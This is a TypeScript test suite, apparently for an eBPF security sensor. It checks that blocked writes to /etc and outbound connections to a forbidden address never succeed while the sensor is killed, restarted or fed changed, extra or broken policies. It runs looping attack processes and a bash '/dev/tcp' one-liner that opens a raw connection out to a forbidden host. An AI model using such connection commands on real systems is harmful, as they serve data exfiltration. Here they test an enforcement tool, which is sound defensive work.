// SPDX-License-Identifier: Apache-2.0
// Forbidden operations are tried without a pause while the sensor is killed, restarted, or given
// other policies: not one succeeds.
import assert from "node:assert/strict";
import { readFileSync, writeFileSync } from "node:fs";
import { after, before, describe, test } from "node:test";
import { setTimeout as sleep } from "node:timers/promises";
import { type RunningAttack, run, startAttack } from "./lib/attack.ts";
import { createOutside, forbidden, type Outside } from "./lib/outside.ts";
import { readSeedPolicies, Sensor } from "./lib/sensor.ts";

interface Tally {
  readonly attempts: number;
  readonly killed: number;
  readonly refused: number;
  readonly succeeded: number;
  readonly first_success: number;
  readonly other: number;
}

const attacked = "/etc/attacked-file";
const attackedPolicies = ["file-monitoring-filtered", "monitor-network-activity-outside-cluster"];

/** Tries to write and to connect from several processes while `during` runs; gives what came of it. */
async function underAttack(outside: Outside, during: () => Promise<void>) {
  const port = outside.newPort();
  writeFileSync("/var/tmp/attacked-file", "");
  run("mv", ["/var/tmp/attacked-file", attacked]);
  const attacks = [
    startAttack("loop-write", "800", "1", attacked),
    startAttack("loop-connect", "800", "1", forbidden.IPv4, `${port}`),
    startAttack("loop-fastopen", "800", "1", forbidden.IPv4, `${port}`),
  ];
  try {
    const before = await Promise.all(attacks.map(nextTally));
    for (const tally of before) assert.equal(tally.succeeded, 0, "before anything was done");
    await during();
  } finally {
    for (const attack of attacks) attack.process.stdin.end();
  }
  const tallies = await Promise.all(attacks.map(lastTally));
  return { tallies, written: readFileSync(attacked, "utf8"), seen: await outside.seen(port) };
}

async function nextTally(attack: RunningAttack): Promise<Tally> {
  const line = await attack.nextLine();
  assert.ok(line !== undefined, "the attack has ended early");
  return JSON.parse(line);
}

async function lastTally(attack: RunningAttack): Promise<Tally> {
  let last = await attack.nextLine();
  for (let line = last; line !== undefined; line = await attack.nextLine()) last = line;
  return JSON.parse(last ?? "");
}

function assertNothingSucceeded(outcome: Awaited<ReturnType<typeof underAttack>>): void {
  assert.equal(outcome.written, "", "something was written");
  assert.deepEqual(outcome.seen, { packets: 0, accepted: 0, received: [] });
  for (const tally of outcome.tallies) {
    assert.equal(tally.succeeded, 0, JSON.stringify(tally));
    assert.ok(tally.attempts > 100, `too few attempts to mean anything: ${JSON.stringify(tally)}`);
  }
}

describe("enforcement without a gap", () => {
  let outside: Outside;
  let sensor: Sensor;
  before(async () => {
    outside = await createOutside();
    sensor = await Sensor.start({
      policies: readSeedPolicies(),
      flags: ["--export-file-max-size-mb", "1000"],
    });
  });
  after(async () => {
    await sensor?.[Symbol.asyncDispose]();
    await outside?.[Symbol.asyncDispose]();
  });

  test("the sensor is killed and restarted twice", { timeout: 900_000 }, async () => {
    const outcome = await underAttack(outside, async () => {
      for (let i = 0; i < 2; i++) {
        await sensor.kill();
        await sleep(1500);
        await sensor.restart();
        await sleep(1000);
      }
    });
    assertNothingSucceeded(outcome);
  });

  test("it sees and stops as before after that", async () => {
    const port = outside.newPort();
    const result = run("bash", ["-c", `echo x > /dev/tcp/${forbidden.IPv4}/${port}`]);
    assert.equal(result.signal, "SIGKILL");
    await sensor.event(
      "the connection",
      (event) => event.process_kprobe?.args?.[0]?.sock_arg?.dport === port,
    );
  });

  test("the sensor is killed while it starts", { timeout: 900_000 }, async () => {
    const outcome = await underAttack(outside, async () => {
      for (const startMs of [300, 900, 2000, 4000]) {
        await sensor.kill();
        sensor.launch();
        await sleep(startMs);
      }
      await sensor.kill();
      await sensor.restart();
    });
    assertNothingSucceeded(outcome);
  });

  test("policies are rewritten a hundred times", { timeout: 900_000 }, async () => {
    const files = readSeedPolicies();
    const outcome = await underAttack(outside, async () => {
      for (let i = 0; i < 100; i++) {
        for (const [name, text] of Object.entries(files))
          sensor.writePolicy(name, changed(text, i));
        await sleep(i % 10 === 0 ? 500 : 40);
      }
      for (const policy of attackedPolicies)
        await sensor.event(
          `the last version of ${policy} is in force`,
          ({ process_kprobe: event }) =>
            event?.policy_name === policy && event.message === "version 99",
        );
    });
    assertNothingSucceeded(outcome);
    for (const [name, text] of Object.entries(files)) sensor.writePolicy(name, text);
  });

  test("other policies on the same hooks come and go", { timeout: 900_000 }, async () => {
    const outcome = await underAttack(outside, async () => {
      for (let i = 0; i < 30; i++) {
        sensor.writePolicy(`other-${i % 5}.yaml`, otherPolicy(i % 5));
        await sleep(120);
        sensor.removePolicy(`other-${i % 5}.yaml`);
        await sleep(60);
      }
    });
    assertNothingSucceeded(outcome);
  });

  test("a broken version comes in between", { timeout: 900_000 }, async () => {
    const files = readSeedPolicies();
    const outcome = await underAttack(outside, async () => {
      for (const name of Object.keys(files)) {
        sensor.writePolicy(name, "kind: [broken\n");
        await sleep(1500);
      }
      await sensor.kill();
      await sleep(500);
      for (const [name, text] of Object.entries(files)) sensor.writePolicy(name, text);
      await sensor.restart();
    });
    assertNothingSucceeded(outcome);
  });
});

/** The same prohibition in other words, so that every row of it changes; `i` below 100, none allows 10.99.0.2. */
function changed(text: string, i: number): string {
  return text
    .replace(/^ +- "\/etc"$/m, (line) => `${line}\n${line.replace("/etc", `/elsewhere-${i}`)}`)
    .replace(
      /^ +- 127\.0\.0\.1$/m,
      (line) => `${line}\n${line.replace("127.0.0.1", `10.${100 + i}.0.0/16`)}`,
    )
    .replace("syscall: false", `syscall: false\n      message: "version ${i}"`);
}

function otherPolicy(i: number): string {
  return `apiVersion: cilium.io/v1alpha1
kind: TracingPolicy
metadata:
  name: other-${i}
spec:
  kprobes:
  - call: security_file_permission
    syscall: false
    args:
    - index: 0
      type: file
    - index: 1
      type: int
    selectors:
    - matchArgs:
      - index: 0
        operator: Prefix
        values: ["/other-${i}", "/opt/other"]
  - call: tcp_connect
    syscall: false
    args:
    - index: 0
      type: sock
    selectors:
    - matchArgs:
      - index: 0
        operator: DAddr
        values: ["192.0.2.${i}"]
`;
}
